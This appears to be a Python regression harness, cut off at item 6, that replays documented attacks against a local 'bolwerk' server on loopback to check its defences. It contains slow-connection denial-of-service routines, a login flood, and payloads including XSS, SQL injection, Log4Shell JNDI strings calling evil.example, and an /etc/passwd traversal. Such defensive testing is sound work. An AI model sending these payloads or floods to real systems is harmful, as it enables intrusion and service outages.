#!/usr/bin/python3
"""Replays the attacks of issue 12 against `bolwerk demo` and prints `held` or `BROKEN` per item.

Run through bench/attack.sh (which picks the binary and installs python3-h2). Everything
happens on loopback: the servers listen on 127.0.0.1 and every attacker is a distinct
127.x.y.z source address. Every loop is bounded in count and in time; the servers started
here are stopped on exit (SIGTERM, then SIGKILL after 10 s).

Items (numbers as in the issue):
  1  idle HTTP/2 connections and trickled bodies are cut off; a third client is served;
     the holders are banned; a busy connection is closed at max_connection_age
  2  100 concurrent sign-ins from 10 addresses: peak RSS bound, 503 + Retry-After
  3  an attacking contact-form post over HTTP/1.1 and HTTP/2, with and without length
  4  an attack after 70 KB of padding; a second _token
  5  attacks in headers, cookies and under /.well-known/ lead to a ban
  6  2,000 distinct attackers at once (threshold 1): every ban kept, also after 20 s
  7  second-factor guessing is locked out, re-entering the password resets nothing
  8  wrong passwords from one address do not lock the owner out from another
  9  password re-checks in a session count as failures and are in the login history
  10 file modes of the data directory and the database
  11 log injection through the user name (CR/LF, ESC)
  12 admin on an unknown Host (421, HTTP/1.1 and HTTP/2); certificate without/unknown SNI
"""
import argparse
import asyncio
import base64
import hashlib
import hmac
import json
import os
import re
import resource
import secrets
import shutil
import signal
import sqlite3
import ssl
import stat
import struct
import subprocess
import sys
import tempfile
import time
import urllib.parse

import h2.config
import h2.connection
import h2.events
import h2.exceptions

# The short limits the main server runs with (see CONFIG).
IDLE_S = 3
REQUEST_S = 6  # above the sign-in lockout's longest delay (4 s), or slowed sign-ins get 408
GRACE_S = 2
AGE_S = 10
STALLED = 4
ATTACKS = 3
SLACK_S = 1.5  # scheduling slack allowed on top of a configured limit
RSS_BOUND_MIB = 300

CONFIG = f"""
[server]
idle_timeout_s = {IDLE_S}
request_timeout_s = {REQUEST_S}
shutdown_grace_s = {GRACE_S}
max_connection_age_s = {AGE_S}
header_read_timeout_s = 3
max_connections = 128
max_connections_per_ip = 16

[shield]
ban_stalled_threshold = {STALLED}
ban_attack_threshold = {ATTACKS}
# The sign-in items measure the Argon2 cap and the lockout, not the per-client rate limit.
rate_login_per_min = 120
# The trickled bodies are to be cut by the request deadline, not refused by the form rate limit.
rate_forms_per_min = 120
"""

CONFIG_MANY = """
[shield]
ban_attack_threshold = 1
"""

UA = "Mozilla/5.0 (X11; Linux x86_64) attack-replay"
RESULTS = []


def report(item, ok, text):
    """One result line; ok None means "not replayed"."""
    word = "held" if ok else ("not replayed" if ok is None else "BROKEN")
    line = f"{item:>3}  {word:<12} {text}"
    RESULTS.append(line)
    print(line, flush=True)


# --------------------------------------------------------------------------------------------
# The server under attack


class Server:
    def __init__(self, binary, name, http_port, https_port, config):
        self.binary = os.path.abspath(binary)
        self.dir = tempfile.mkdtemp(prefix=f"bolwerk-attack-{name}.")
        self.data = os.path.join(self.dir, "data")
        self.cfg = os.path.join(self.dir, "bolwerk.toml")
        with open(self.cfg, "w") as f:
            f.write(config)
        self.http, self.https = http_port, https_port
        self.proc = None
        self.admin_password = None

    def start(self):
        self.out_path = os.path.join(self.dir, "stdout.log")
        self.err_path = os.path.join(self.dir, "stderr.log")
        out, err = open(self.out_path, "wb"), open(self.err_path, "wb")
        self.proc = subprocess.Popen(
            [self.binary, "demo", "--data-dir", self.data, "--config", self.cfg,
             "--http", f"127.0.0.1:{self.http}", "--https", f"127.0.0.1:{self.https}"],
            stdin=subprocess.DEVNULL, stdout=out, stderr=err)
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            text = open(self.out_path, errors="replace").read()
            if "Stop with Ctrl-C." in text:
                m = re.search(r"one-time password: (\S+)", text)
                self.admin_password = m.group(1) if m else None
                return
            if self.proc.poll() is not None:
                break
            time.sleep(0.2)
        sys.stderr.write(open(self.err_path, errors="replace").read()[-3000:])
        raise SystemExit(f"the demo did not start (exit {self.proc.poll()}); config {self.cfg}")

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(5)

    def status_kib(self, key):
        with open(f"/proc/{self.proc.pid}/status") as f:
            for line in f:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
        return 0

    def cli(self, *args, stdin=None):
        return subprocess.run([self.binary, *args, "--data-dir", self.data], input=stdin,
                              capture_output=True, text=True, timeout=60)

    def bans(self):
        r = self.cli("ban", "list", "--json")
        return [json.loads(line) for line in r.stdout.splitlines() if line.startswith("{")]

    def db(self):
        return sqlite3.connect(f"file:{self.data}/bolwerk.db?mode=ro", uri=True, timeout=10)

    def log(self):
        with open(self.err_path, "rb") as f:
            return f.read()


S = None  # the main server
KEEP = False
DEBUG = os.environ.get('ATTACK_DEBUG') == '1'


def tls_context(alpn):
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    c.set_alpn_protocols([alpn])
    return c


async def connect(src, port, alpn=None, timeout=15):
    kw = {"ssl": tls_context(alpn), "server_hostname": "localhost"} if alpn else {}
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0), **kw), timeout)


# --------------------------------------------------------------------------------------------
# HTTP/1.1


class Resp:
    def __init__(self, status, headers, body, seconds, proto):
        self.status, self.headers, self.body, self.seconds, self.proto = status, headers, body, seconds, proto

    def header(self, name):
        for k, v in self.headers:
            if k == name:
                return v
        return None

    def cookies(self):
        return [v for k, v in self.headers if k == "set-cookie"]

    @property
    def text(self):
        return self.body.decode("utf-8", "replace")


def dechunk(data):
    out, i = b"", 0
    while i < len(data):
        j = data.find(b"\r\n", i)
        if j < 0:
            break
        size = int(data[i:j].split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out += data[j + 2:j + 2 + size]
        i = j + 2 + size + 2
    return out


def parse_h1(raw, seconds):
    head, _, body = raw.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    status = int(lines[0].split(b" ")[1]) if lines and lines[0].startswith(b"HTTP/") else 0
    headers = []
    for line in lines[1:]:
        k, _, v = line.partition(b":")
        headers.append((k.strip().lower().decode(), v.strip().decode("latin-1")))
    if any(k == "transfer-encoding" and "chunked" in v for k, v in headers):
        body = dechunk(body)
    return Resp(status, headers, body, seconds, "HTTP/1.1")


async def h1(src, method, path, headers=(), body=None, tls=True, chunked=False, timeout=20):
    """One request on its own connection; status 0 when the connection failed or closed
    without an answer."""
    port = S.https if tls else S.http
    t0 = time.monotonic()
    try:
        r, w = await connect(src, port, "http/1.1" if tls else None, timeout)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return Resp(0, [], b"", time.monotonic() - t0, "HTTP/1.1")
    hs = list(headers)
    if not any(k.lower() == "host" for k, _ in hs):
        hs.insert(0, ("Host", f"localhost:{port}"))
    hs += [("User-Agent", UA), ("Connection", "close")]
    payload = b""
    if body is not None:
        if chunked:
            hs.append(("Transfer-Encoding", "chunked"))
            payload = (f"{len(body):x}\r\n".encode() + body + b"\r\n" if body else b"") + b"0\r\n\r\n"
        else:
            hs.append(("Content-Length", str(len(body))))
            payload = body
    req = f"{method} {path} HTTP/1.1\r\n".encode()
    req += b"".join(f"{k}: {v}\r\n".encode("latin-1") for k, v in hs) + b"\r\n" + payload
    raw = b""
    try:
        w.write(req)
        await w.drain()
        while len(raw) < 4 << 20:
            chunk = await asyncio.wait_for(r.read(65536), max(0.1, timeout - (time.monotonic() - t0)))
            if not chunk:
                break
            raw += chunk
    except (OSError, asyncio.TimeoutError, ssl.SSLError, asyncio.IncompleteReadError):
        pass
    finally:
        w.close()
    return parse_h1(raw, time.monotonic() - t0)


# --------------------------------------------------------------------------------------------
# HTTP/2


def frame_types(data):
    """Types of the HTTP/2 frames in `data` (assumed to start at a frame boundary)."""
    i = 0
    while i + 9 <= len(data):
        n = int.from_bytes(data[i:i + 3], "big")
        yield data[i + 3]
        i += 9 + n


class H2:
    """A minimal HTTP/2 client over TLS (ALPN h2) or cleartext prior knowledge (h2c)."""

    @classmethod
    async def open(cls, src, port, tls=True, timeout=15):
        self = cls()
        self.r, self.w = await connect(src, port, "h2" if tls else None, timeout)
        if tls:
            alpn = self.w.get_extra_info("ssl_object").selected_alpn_protocol()
            if alpn != "h2":
                raise OSError(f"server chose ALPN {alpn!r}, not h2")
        self.tls, self.port = tls, port
        self.c = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        self.c.initiate_connection()
        self.t0 = time.monotonic()
        self.goaway_at = self.closed_at = None
        self.streams = {}  # id -> {"status", "headers", "body", "done", "reset"}
        self.pings = 0
        self.raw_only = False
        self.flush()
        return self

    def flush(self):
        data = self.c.data_to_send()
        if data and self.closed_at is None:
            try:
                self.w.write(data)
            except (OSError, RuntimeError):
                self.closed_at = time.monotonic()

    async def pump(self, timeout):
        """Reads once (up to `timeout` s) and handles what arrived."""
        if self.closed_at is not None:
            await asyncio.sleep(min(timeout, 0.05))
            return
        try:
            data = await asyncio.wait_for(self.r.read(65536), timeout)
            if data and self.raw_only:
                if self.goaway_at is None and any(t == 7 for t in frame_types(data)):
                    self.goaway_at = time.monotonic()
                return
        except asyncio.TimeoutError:
            return
        except (OSError, ssl.SSLError):
            data = b""
        if not data:
            if DEBUG:
                print("h2 EOF", round(time.monotonic() - self.t0, 2), flush=True)
            self.closed_at = time.monotonic()
            return
        try:
            events = self.c.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            # The h2 package refuses frames it does not expect after a GOAWAY (hyper follows
            # its GOAWAY with a PING); note the GOAWAY from the raw frames and read on to EOF.
            if DEBUG:
                print("h2 protocol error", round(time.monotonic() - self.t0, 2), repr(e), data[:64], flush=True)
            if self.goaway_at is None and any(t == 7 for t in frame_types(data)):
                self.goaway_at = time.monotonic()
            self.raw_only = True
            return
        for e in events:
            st = self.streams.get(getattr(e, "stream_id", None))
            if isinstance(e, h2.events.ResponseReceived) and st is not None:
                st["headers"] = [(k, v) for k, v in e.headers]
                st["status"] = int(dict(e.headers).get(":status", 0))
                st["at"] = time.monotonic()
            elif isinstance(e, h2.events.DataReceived):
                if st is not None:
                    st["body"] += e.data
                self.c.acknowledge_received_data(e.flow_controlled_length, e.stream_id)
            elif isinstance(e, h2.events.StreamEnded) and st is not None:
                st["done"] = True
            elif isinstance(e, h2.events.StreamReset) and st is not None:
                st["reset"] = e.error_code
                st.setdefault("at", time.monotonic())
            elif isinstance(e, h2.events.PingReceived):
                self.pings += 1  # h2 answers it by itself
            if DEBUG:
                print("h2 event", round(time.monotonic() - self.t0, 2), e, flush=True)
            if isinstance(e, h2.events.ConnectionTerminated):
                if self.goaway_at is None:
                    self.goaway_at = time.monotonic()
        self.flush()
        try:
            await self.w.drain()
        except (OSError, ssl.SSLError):
            self.closed_at = time.monotonic()

    def start(self, method, path, headers=(), authority=None, end=True):
        sid = self.c.get_next_available_stream_id()
        hs = [(":method", method), (":scheme", "https" if self.tls else "http"),
              (":authority", authority or f"localhost:{self.port}"), (":path", path),
              ("user-agent", UA)] + [(k.lower(), v) for k, v in headers]
        self.streams[sid] = {"status": 0, "headers": [], "body": b"", "done": False, "reset": None}
        self.c.send_headers(sid, hs, end_stream=end)
        self.flush()
        return sid

    async def send_body(self, sid, body, deadline):
        while body and time.monotonic() < deadline and self.closed_at is None:
            st = self.streams[sid]
            if st["reset"] is not None or st["done"]:
                return
            n = min(len(body), self.c.local_flow_control_window(sid), self.c.max_outbound_frame_size)
            if n <= 0:
                await self.pump(0.5)
                continue
            self.c.send_data(sid, body[:n], end_stream=(n == len(body)))
            body = body[n:]
            self.flush()
            await self.w.drain()

    def finished(self, sid):
        st = self.streams[sid]
        return st["done"] or st["reset"] is not None or self.closed_at is not None

    async def wait(self, sid, deadline):
        while not self.finished(sid) and time.monotonic() < deadline:
            await self.pump(max(0.05, deadline - time.monotonic()))

    def close(self):
        try:
            self.w.close()
        except Exception:
            pass


async def h2req(src, method, path, headers=(), body=None, length=True, tls=True, authority=None, timeout=20):
    t0 = time.monotonic()
    deadline = t0 + timeout
    try:
        c = await H2.open(src, S.https if tls else S.http, tls, timeout)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return Resp(0, [], b"", time.monotonic() - t0, "HTTP/2")
    hs = list(headers)
    if body is not None and length:
        hs.append(("content-length", str(len(body))))
    try:
        sid = c.start(method, path, hs, authority, end=not body)
        if body:
            await c.send_body(sid, body, deadline)
        await c.wait(sid, deadline)
    except (OSError, ssl.SSLError, h2.exceptions.H2Error):
        return Resp(0, [], b"", time.monotonic() - t0, "HTTP/2")
    finally:
        c.close()
    st = c.streams[sid]
    return Resp(st["status"], st["headers"], st["body"], time.monotonic() - t0, "HTTP/2")


# --------------------------------------------------------------------------------------------
# Helpers for forms and the admin

FORM_CT = ("Content-Type", "application/x-www-form-urlencoded")


def enc(fields):
    return "&".join(f"{urllib.parse.quote(k, safe='')}={urllib.parse.quote(v, safe='')}" for k, v in fields).encode()


async def form_token(src):
    r = await h1(src, "GET", "/contact")
    m = re.search(r'name="_token" value="([^"]+)"', r.text)
    return m.group(1) if m else None


def nonce(token):
    return token.split(".")[1] if token and token.count(".") >= 2 else token


def stored(nonces):
    with S.db() as db:
        q = ",".join("?" * len(nonces))
        return db.execute(f"SELECT count(*) FROM form_submissions WHERE token_nonce IN ({q})", list(nonces)).fetchone()[0]


class Admin:
    """A browser at one address signing in to the admin over HTTPS/1.1."""

    def __init__(self, src):
        self.src, self.cookie = src, None

    def headers(self, post=False):
        hs = []
        if self.cookie:
            hs.append(("Cookie", f"__Host-sid={self.cookie}"))
        if post:
            hs += [("Origin", f"https://localhost:{S.https}"), ("Sec-Fetch-Site", "same-origin"), FORM_CT]
        return hs

    def remember(self, r):
        for c in r.cookies():
            if c.startswith("__Host-sid="):
                v = c.split(";")[0].split("=", 1)[1]
                self.cookie = None if (not v or "Max-Age=0" in c) else v

    async def get(self, path):
        r = await h1(self.src, "GET", "/_admin" + path, self.headers())
        self.remember(r)
        return r

    async def post(self, path, fields):
        r = await h1(self.src, "POST", "/_admin" + path, self.headers(True), enc(fields))
        self.remember(r)
        return r

    async def login(self, user, password):
        return await self.post("/login", [("user", user), ("password", password)])

    async def csrf(self, path):
        r = await self.get(path)
        m = re.search(r'name="csrf" value="([^"]+)"', r.text)
        return m.group(1) if m else ""


def totp(secret, at=None):
    key = base64.b32decode(secret.upper() + "=" * (-len(secret) % 8))
    step = int((time.time() if at is None else at) // 30)
    mac = hmac.new(key, struct.pack(">Q", step), hashlib.sha1).digest()
    o = mac[-1] & 15
    return f"{(struct.unpack('>I', mac[o:o + 4])[0] & 0x7fffffff) % 1000000:06d}"


def add_user(name):
    password = "Rp-" + secrets.token_urlsafe(18)
    r = S.cli("user", "add", name, "--role", "admin", stdin=password + "\n" + password + "\n")
    if r.returncode != 0:
        raise RuntimeError(f"user add {name}: {r.stderr.strip()}")
    return password


def fmt_counts(xs):
    d = {}
    for x in xs:
        d[x] = d.get(x, 0) + 1
    return " ".join(f"{k}x{v}" for k, v in sorted(d.items(), key=lambda kv: str(kv[0])))


def banned(subject, reason_part=None):
    for b in S.bans():
        if b.get("subject") == subject and (reason_part is None or reason_part in b.get("reason", "")):
            return b
    return None


# --------------------------------------------------------------------------------------------
# 1. Starving the server: held connections


async def idle_holder(src, tls, limit_s=20, on_connect=None):
    try:
        c = await H2.open(src, S.https if tls else S.http, tls)
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        return {"error": str(e)}
    finally:
        on_connect and on_connect()
    deadline = c.t0 + limit_s
    while c.closed_at is None and time.monotonic() < deadline:
        await c.pump(deadline - time.monotonic())
    c.close()
    return {"closed": None if c.closed_at is None else c.closed_at - c.t0,
            "goaway": None if c.goaway_at is None else c.goaway_at - c.t0}


async def trickle_h1(src, length, limit_s=20, on_connect=None):
    try:
        r, w = await connect(src, S.https, "http/1.1")
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        return {"error": str(e)}
    finally:
        on_connect and on_connect()
    w.write((f"POST /contact HTTP/1.1\r\nHost: localhost:{S.https}\r\nUser-Agent: {UA}\r\n"
             f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {length}\r\n\r\n").encode())
    t0 = time.monotonic()
    raw, ended = b"", None
    while time.monotonic() - t0 < limit_s:
        try:
            chunk = await asyncio.wait_for(r.read(65536), 1.0)
            if not chunk:
                ended = time.monotonic()
                break
            raw += chunk
            if ended is None:
                ended = time.monotonic()
        except asyncio.TimeoutError:
            pass
        except (OSError, ssl.SSLError):
            ended = ended or time.monotonic()
            break
        if raw:
            break
        try:
            w.write(b"a")  # one byte a second
            await w.drain()
        except (OSError, ssl.SSLError, RuntimeError):
            ended = ended or time.monotonic()
            break
    w.close()
    status = parse_h1(raw, 0).status if raw else 0
    return {"cut": None if ended is None else ended - t0, "status": status}


async def trickle_h2(src, length, limit_s=20, on_connect=None):
    try:
        c = await H2.open(src, S.https, True)
        sid = c.start("POST", "/contact", [FORM_CT, ("content-length", str(length))], end=False)
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        return {"error": str(e)}
    finally:
        on_connect and on_connect()
    t0 = time.monotonic()
    while time.monotonic() - t0 < limit_s and not c.finished(sid):
        st = c.streams[sid]
        if st["status"]:
            break
        try:
            c.c.send_data(sid, b"a")
            c.flush()
        except h2.exceptions.H2Error:
            break
        end = time.monotonic() + 1.0
        while time.monotonic() < end and not c.finished(sid) and not c.streams[sid]["status"]:
            await c.pump(end - time.monotonic())
    st = c.streams[sid]
    at = st.get("at") or c.closed_at
    c.close()
    return {"cut": None if at is None else at - t0, "status": st["status"] or (f"RST{st['reset']}" if st["reset"] is not None else 0)}


async def third_client(stop_at):
    out = []
    while time.monotonic() < stop_at and len(out) < 40:
        r = await h1("127.0.100.1", "GET", "/", timeout=15)
        out.append((r.status, r.seconds))
        await asyncio.sleep(0.5)
    return out


async def busy_connection(src, limit_s=AGE_S + GRACE_S + 8):
    """An HTTP/2 connection asking for a page every second: closed at the maximum age."""
    try:
        c = await H2.open(src, S.https, True)
    except (OSError, asyncio.TimeoutError, ssl.SSLError) as e:
        return {"error": str(e)}
    served = 0
    while c.closed_at is None and time.monotonic() - c.t0 < limit_s:
        if c.goaway_at is None:
            try:
                sid = c.start("GET", "/")
                await c.wait(sid, time.monotonic() + 3)
                served += c.streams[sid]["status"] == 200
            except h2.exceptions.H2Error:
                pass
        end = time.monotonic() + 1
        while c.closed_at is None and time.monotonic() < end:
            await c.pump(end - time.monotonic())
    c.close()
    return {"goaway": None if c.goaway_at is None else c.goaway_at - c.t0,
            "closed": None if c.closed_at is None else c.closed_at - c.t0, "served": served}


async def item1():
    per_ip = 16
    idle_tls = [f"127.0.1.{i}" for i in range(1, 5)]      # 4 x 16 idle h2 over TLS
    idle_h2c = ["127.0.1.21"]                              # 16 idle h2c on the plain listener
    tricklers = [f"127.0.1.{i}" for i in range(11, 15)]    # 4 x 16 trickled bodies (60,000 bytes)
    connected = [0]

    async def counted(coro_fn, *a):
        return await coro_fn(*a, on_connect=lambda: connected.__setitem__(0, connected[0] + 1))

    tasks = []
    for a in idle_tls:
        tasks += [("idle-h2-tls", a, counted(idle_holder, a, True)) for _ in range(per_ip)]
    for a in idle_h2c:
        tasks += [("idle-h2c", a, idle_holder(a, False)) for _ in range(per_ip)]
    for n, a in enumerate(tricklers):
        for k in range(per_ip):
            if (n + k) % 2:
                tasks.append(("trickle-h2-60000", a, counted(trickle_h2, a, 60000)))
            else:
                tasks.append(("trickle-h1-60000", a, counted(trickle_h1, a, 60000)))
    on_tls = sum(1 for k, _, _ in tasks if k != "idle-h2c")
    t0 = time.monotonic()
    gathered = asyncio.gather(*(t for _, _, t in tasks))
    # The third client comes once the holders have every HTTPS connection (max_connections).
    while connected[0] < on_tls and time.monotonic() - t0 < 10:
        await asyncio.sleep(0.05)
    full_after = time.monotonic() - t0
    third = asyncio.ensure_future(third_client(time.monotonic() + 9))
    results = await gathered
    third = await third
    spent = time.monotonic() - t0

    # Bodies that announce more than the inspected size, and a busy connection, meanwhile.
    big = "127.0.1.15"
    big_tasks = [("trickle-h1-100000", big, trickle_h1(big, 100000)) for _ in range(4)] + \
                [("trickle-h2-100000", big, trickle_h2(big, 100000)) for _ in range(4)]
    second = asyncio.gather(busy_connection("127.0.1.30"), *(t for _, _, t in big_tasks))
    busy, *big_results = await second
    tasks += big_tasks
    results += big_results

    idle_limit = IDLE_S + GRACE_S + SLACK_S
    idle = [(k, r) for (k, _, _), r in zip(tasks, results) if k.startswith("idle")]
    idle_err = [r["error"] for _, r in idle if "error" in r]
    idle_closed = [r["closed"] for _, r in idle if r.get("closed") is not None]
    goaways = sum(1 for _, r in idle if r.get("goaway") is not None)
    idle_open = len(idle) - len(idle_err) - len(idle_closed)
    worst = max(idle_closed, default=0)
    ok = not idle_open and idle_closed and worst <= idle_limit
    report("1a", ok, f"idle HTTP/2 (preface+SETTINGS, pings answered, nothing sent; 64 over TLS, 16 h2c): "
           f"{len(idle_closed)}/{len(idle)} closed ({goaways} with GOAWAY), latest after {worst:.1f} s "
           f"(limit idle {IDLE_S} + grace {GRACE_S} s), {idle_open} still open after 20 s"
           + (f", {len(idle_err)} refused at connect" if idle_err else ""))

    body_limit = REQUEST_S + SLACK_S
    for proto in ("h1", "h2"):
        for length in (60000, 100000):
            kind = f"trickle-{proto}-{length}"
            rs = [r for (k, _, _), r in zip(tasks, results) if k == kind]
            errs = [r for r in rs if "error" in r]
            cut = [r["cut"] for r in rs if r.get("cut") is not None]
            worst = max(cut, default=0)
            statuses = fmt_counts(r.get("status") for r in rs if "error" not in r)
            ok = len(cut) == len(rs) - len(errs) and cut and worst <= body_limit
            report("1b", ok, f"trickled POST /contact HTTP/{'1.1' if proto == 'h1' else '2'} Content-Length {length} "
                   f"(1 byte/s): {len(cut)}/{len(rs)} cut off, latest after {worst:.1f} s (request_timeout {REQUEST_S} s); "
                   f"answers {statuses} (0 = closed without answer)" + (f"; {len(errs)} refused at connect" if errs else ""))

    served = [s for s, _ in third if s == 200]
    worst = max((t for _, t in third), default=0)
    ok = third and len(served) == len(third) and worst <= IDLE_S + GRACE_S + SLACK_S
    report("1c", ok, f"third client while the holders had all {on_tls} HTTPS connections (max_connections, "
           f"full {full_after:.1f} s after the start): {len(served)}/{len(third)} pages served, first after "
           f"{third[0][1] if third else 0:.1f} s, slowest {worst:.1f} s; statuses {fmt_counts(s for s, _ in third)}")

    await asyncio.sleep(1.5)
    holders = idle_tls + idle_h2c + tricklers
    bans = {b["subject"]: b["reason"] for b in S.bans()}
    got = [a for a in holders if a in bans]
    reasons = sorted({bans[a] for a in got})
    probe = await h1(idle_tls[0], "GET", "/", timeout=5)
    ok = len(got) == len(holders)
    report("1d", ok, f"holders banned: {len(got)}/{len(holders)} addresses (ban_stalled_threshold {STALLED}); "
           f"reason {reasons}; a new request from one gets {probe.status or 'closed'}")

    r = busy
    ok = r.get("closed") is not None and r["closed"] <= AGE_S + GRACE_S + SLACK_S
    report("1e", ok, f"busy HTTP/2 connection (a page every second): GOAWAY after "
           f"{r.get('goaway') and round(r['goaway'], 1)} s, closed after {r.get('closed') and round(r['closed'], 1)} s "
           f"(limit max_connection_age {AGE_S} + grace {GRACE_S} s), {r.get('served')} pages served"
           + (f" {r['error']}" if "error" in r else ""))
    return spent


# --------------------------------------------------------------------------------------------
# 2. Memory through sign-in


async def item2():
    rss0, hwm0 = S.status_kib("VmRSS"), S.status_kib("VmHWM")
    peak = [rss0]
    done = asyncio.Event()

    async def sample():
        while not done.is_set():
            peak[0] = max(peak[0], S.status_kib("VmRSS"))
            await asyncio.sleep(0.02)

    async def one(i):
        src = f"127.0.2.{i % 10 + 1}"
        return await h1(src, "POST", "/_admin/login",
                        [("Origin", f"https://localhost:{S.https}"), ("Sec-Fetch-Site", "same-origin"), FORM_CT],
                        enc([("user", f"guess{i}"), ("password", f"wrong-{i}-{secrets.token_hex(4)}")]), timeout=60)

    sampler = asyncio.ensure_future(sample())
    t0 = time.monotonic()
    rs = await asyncio.gather(*(one(i) for i in range(100)))
    spent = time.monotonic() - t0
    done.set()
    await sampler
    hwm = S.status_kib("VmHWM")
    await asyncio.sleep(5)
    rss_after = S.status_kib("VmRSS")
    busy = [r for r in rs if r.status == 503]
    with_retry = [r for r in busy if r.header("retry-after")]
    mib = lambda k: k / 1024
    ok = mib(hwm) < RSS_BOUND_MIB and with_retry and len(with_retry) == len(busy)
    report(2, ok, f"100 concurrent POST /_admin/login from 10 addresses in {spent:.1f} s: answers {fmt_counts(r.status for r in rs)}, "
           f"{len(with_retry)} x 503 with Retry-After ({busy[0].header('retry-after') if busy else '-'} s); "
           f"RSS {mib(rss0):.0f} MiB before, peak {mib(max(peak[0], 0)):.0f} MiB (VmHWM {mib(hwm):.0f}, {mib(hwm0):.0f} before), "
           f"{mib(rss_after):.0f} MiB 5 s later; bound {RSS_BOUND_MIB} MiB")


# --------------------------------------------------------------------------------------------
# 3, 4. Walking around the shield with bodies


async def item3():
    srcs = [f"127.0.3.{i}" for i in range(1, 6)]
    tokens = await asyncio.gather(*(form_token(s) for s in srcs))
    if not all(tokens):
        report(3, False, "could not fetch form tokens from /contact")
        return
    await asyncio.sleep(3.5)  # the form's min_fill_s: otherwise a fine post
    attack = lambda t: enc([("_token", t), ("name", "<script>alert(1)</script>"), ("email", "anna@example.org"),
                            ("message", "Hello"), ("website", "")])
    tries = [
        ("HTTP/1.1 Content-Length", h1(srcs[0], "POST", "/contact", [FORM_CT], attack(tokens[0]))),
        ("HTTP/1.1 chunked", h1(srcs[1], "POST", "/contact", [FORM_CT], attack(tokens[1]), chunked=True)),
        ("HTTP/2 content-length", h2req(srcs[2], "POST", "/contact", [FORM_CT], attack(tokens[2]), length=True)),
        ("HTTP/2 no length", h2req(srcs[3], "POST", "/contact", [FORM_CT], attack(tokens[3]), length=False)),
    ]
    rs = await asyncio.gather(*(t for _, t in tries))
    honest = await h2req(srcs[4], "POST", "/contact", [FORM_CT],
                         enc([("_token", tokens[4]), ("name", "Anna"), ("email", "anna@example.org"),
                              ("message", "Hello, when is the next volunteer day?"), ("website", "")]), length=False)
    await asyncio.sleep(0.5)
    n_attack = stored([nonce(t) for t in tokens[:4]])
    n_honest = stored([nonce(tokens[4])])
    ok = all(r.status == 403 for r in rs) and n_attack == 0
    report(3, ok, "name=<script>alert(1)</script> to /contact: " + ", ".join(f"{n} {r.status}" for (n, _), r in zip(tries, rs))
           + f"; attacking posts stored: {n_attack}; control (honest post, HTTP/2 no length): {honest.status}, stored {n_honest}")


async def item4():
    srcs = [f"127.0.4.{i}" for i in range(1, 5)]
    tokens = await asyncio.gather(*(form_token(s) for s in srcs))
    if not all(tokens):
        report(4, False, "could not fetch form tokens from /contact")
        return
    await asyncio.sleep(3.5)
    pad = "a" * 70000
    padded = lambda t: enc([("_token", t), ("name", "Anna"), ("message", pad), ("website", ""),
                            ("email", "<script>alert(1)</script>")])
    second_attack = lambda t: enc([("_token", t), ("name", "Anna"), ("email", "anna@example.org"),
                                   ("message", "Hello"), ("website", ""), ("_token", "' OR 1=1-- <script>alert(1)</script>")])
    second_plain = lambda t, t2: enc([("_token", t), ("name", "Anna"), ("email", "anna@example.org"),
                                      ("message", "Hello"), ("website", ""), ("_token", t2)])
    tries = [
        ("attack after 70 KB padding, HTTP/1.1", h1(srcs[0], "POST", "/contact", [FORM_CT], padded(tokens[0]))),
        ("attack after 70 KB padding, HTTP/2 no length", h2req(srcs[1], "POST", "/contact", [FORM_CT], padded(tokens[1]), length=False)),
        ("second _token carrying an attack", h1(srcs[2], "POST", "/contact", [FORM_CT], second_attack(tokens[2]))),
        ("second (valid) _token", h1(srcs[3], "POST", "/contact", [FORM_CT], second_plain(tokens[3], tokens[2]))),
    ]
    rs = await asyncio.gather(*(t for _, t in tries))
    await asyncio.sleep(0.5)
    n = stored([nonce(t) for t in tokens])
    ok = all(r.status in (403, 413, 422) for r in rs) and n == 0
    report(4, ok, "; ".join(f"{name}: {r.status}" for (name, _), r in zip(tries, rs)) + f"; stored: {n}")


# --------------------------------------------------------------------------------------------
# 5. Attacks that never led to a ban


async def item5():
    header_attacks = [
        [("X-Api-Version", "${jndi:ldap://evil.example/a}")],
        [("Cookie", "lang=en' UNION SELECT password FROM users--")],
        [("Referer", "https://x.example/${jndi:rmi://evil.example/b}")],
        [("User-Agent-X", "<script>alert(1)</script>"), ("Cookie", "q=<script>alert(document.cookie)</script>")],
    ]
    a = "127.0.5.1"
    rs = []
    for hs in header_attacks[:ATTACKS]:
        rs.append(await h1(a, "GET", "/", hs))
    await asyncio.sleep(1.0)
    after = await h1(a, "GET", "/")
    b = banned(a)
    ok = all(r.status == 403 for r in rs) and b is not None and "repeated attacks" in b.get("reason", "") and after.status in (0, 403)
    report(5, ok, f"{ATTACKS} header/cookie attacks on / (Log4Shell header, SQLi cookie, Log4Shell Referer): "
           f"{' '.join(str(r.status) for r in rs)}; then a plain GET / gets {after.status or 'closed'}; "
           f"ban: {b['reason'] if b else 'none'}")

    a = "127.0.5.2"
    paths = ["/.well-known/x?u=${jndi:ldap://evil.example/c}", "/.well-known/../../etc/passwd",
             "/.well-known/security.txt?q=1%27%20UNION%20SELECT%20NULL--"]
    rs = [await h1(a, "GET", p) for p in paths[:ATTACKS]]
    await asyncio.sleep(1.0)
    after = await h1(a, "GET", "/")
    b = banned(a)
    ok = b is not None and after.status in (0, 403)
    report(5, ok, f"{ATTACKS} attacks under /.well-known/: {' '.join(str(r.status) for r in rs)}; then GET / gets "
           f"{after.status or 'closed'}; ban: {b['reason'] if b else 'none'}")


# --------------------------------------------------------------------------------------------
# 6. Bans lost under a flood of attackers (own server: ban_attack_threshold = 1)


async def item6(binary):
    global S
